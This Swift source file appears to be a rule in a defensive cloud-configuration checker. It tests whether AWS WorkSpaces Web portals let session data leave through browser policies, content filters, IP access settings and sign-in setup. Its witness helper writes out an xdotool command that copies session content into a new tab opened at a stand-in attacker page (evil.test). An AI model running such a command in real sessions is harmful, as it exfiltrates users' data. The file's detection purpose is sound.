import CordonModel

/// Pages that the remote browser may open.
struct PortalAddressRoute: Route {
  let name = "portal-addresses"
  let path = EgressPath.externalUpload
  let title = "the remote browser opens a page of the attacker's and is given the data"
  let documentation = RouteDocumentation(
    """
    Inside a session, what one tab shows can be copied or typed into another. Any page that the attacker can have in the \
    browser is a way out, also one at a host that he shares with others: code hosting, mail, a bucket, a workspace of his own.
    """,
    closedBy: [
      "a browser policy, attached, whose blocklist is * and whose allowlist names hosts with one owner"
    ],
    notClosedBy: [
      "a blocklist of known bad hosts or categories", "settings that no portal attaches",
      "a host that other customers share", "UploadAllowed Disabled: a text field takes what is typed",
    ], alone: "the browser's own policy alone sees which page is opened")

  func judge(_ scene: Scene) -> Judgement {
    let estate = scene.estate
    var judgement = scene.portals { portal in
      [
        scene.attached(
          "BrowserSettingsArn", "AWS::WorkSpacesWeb::BrowserSettings", to: portal,
          missing: {
            witness(
              "https://evil.test/", portal, "BrowserSettingsArn", "The portal attaches no browser settings.",
              fix: "attach browser settings with a blocklist of * to \(portal.id)")
          }
        ) { pages($0, portal, estate) }
      ]
    }
    for portal in estate.all("AWS::WorkSpacesWeb::Portal") {
      if portal["IpAccessSettingsArn"] == nil {
        judgement.lose("portal \(portal.id) opens from any address of the internet", portal)
      }
      if estate.text(portal, "AuthenticationType").or("Standard").value == "Standard",
        estate.all("AWS::WorkSpacesWeb::IdentityProvider").isEmpty
      {
        judgement.lose("who may sign in to portal \(portal.id) is not in the files", portal)
      }
    }
    return judgement
  }

  private func pages(_ settings: CloudResource, _ portal: CloudResource, _ estate: CloudEstate) -> Door {
    let name = "\(portal.id)"
    let text = estate.text(settings, "BrowserPolicy")
    if !text.unknowns.isEmpty { return .unknown(name, text.unknowns, settings) }
    guard let json = text.value else { return filtered(settings, portal, estate) }
    guard let policy = BrowserPolicy(json) else {
      return .unknown(name, "the browser policy of \(settings.id) is not JSON of Chrome policies", settings)
    }
    guard policy.blocksEverythingElse else {
      return .open(
        name,
        witness(
          "https://evil.test/", settings, "BrowserPolicy",
          "The blocklist is not *, so what is not listed opens.",
          fix: "set URLBlocklist to [\"*\"]"))
    }
    if let entry = policy.openEntry {
      let page =
        entry == "*" ? "https://evil.test/" : "https://\(entry.drop { $0 == "*" || $0 == "." })/attacker"
      return .open(
        name,
        witness(
          page, settings, "BrowserPolicy", "Under the allowlist's entry \(entry) anyone can have a page.",
          fix: "replace \(entry) by exact hosts that belong to one owner"))
    }
    if let sender = policy.doubtful.first {
      return .unknown(
        name, "where the browser policy's \(sender) sends what is typed is not modelled", settings)
    }
    let trusted = estate.stated["trusted-hosts"]?.split(separator: ",").map(String.init) ?? []
    if let entry = policy.doubtfulEntry(trusted: trusted) {
      return .unknown(
        name,
        "who may write to pages at \(entry) is not in the files: if you alone, --assume trusted-hosts=\(entry)",
        settings)
    }
    return Door(
      name: name,
      finding: .closed([
        HeldControl(settings, layer: "browser policy", property: ["BrowserPolicy"]),
        HeldControl(portal, layer: "settings attached", property: ["BrowserSettingsArn"]),
      ]))
  }

  private func filtered(_ settings: CloudResource, _ portal: CloudResource, _ estate: CloudEstate) -> Door {
    let allowed = estate.texts(settings.properties[path: ["WebContentFilteringPolicy", "AllowedUrls"]])
    let blocked = estate.texts(settings.properties[path: ["WebContentFilteringPolicy", "BlockedUrls"]])
    if !allowed.unknown.isEmpty { return .unknown("\(portal.id)", allowed.unknown, settings) }
    let entry = allowed.known.first { BrowserPolicy.isForAnyone($0) }
    let trusted = estate.stated["trusted-hosts"]?.split(separator: ",").map(String.init) ?? []
    if blocked.known.contains("*"), entry == nil,
      let other = BrowserPolicy(allowed: allowed.known).doubtfulEntry(trusted: trusted)
    {
      return .unknown(
        "\(portal.id)",
        "who may write to pages at \(other) is not in the files: if you alone, --assume trusted-hosts=\(other)",
        settings)
    }
    if blocked.known.contains("*"), entry == nil {
      return .closed(
        "\(portal.id)",
        HeldControl(settings, layer: "web content filter", property: ["WebContentFilteringPolicy"]))
    }
    return .open(
      "\(portal.id)",
      witness(
        "https://evil.test/", settings, "WebContentFilteringPolicy",
        "Nothing blocks pages that are not listed.",
        fix: "set a browser policy with a blocklist of *"))
  }

  private func witness(
    _ page: String, _ resource: CloudResource, _ property: String, _ why: String, fix: String
  ) -> RouteWitness {
    RouteWitness(
      "sleep 5; xdotool key ctrl+a ctrl+c ctrl+t; xdotool type '\(page)'; xdotool key Return; sleep 5; xdotool key ctrl+v",
      by: .session,
      story: "Somebody in a session opens a page of the attacker's in a second tab. \(why)", fix: fix,
      at: resource, property)
  }
}
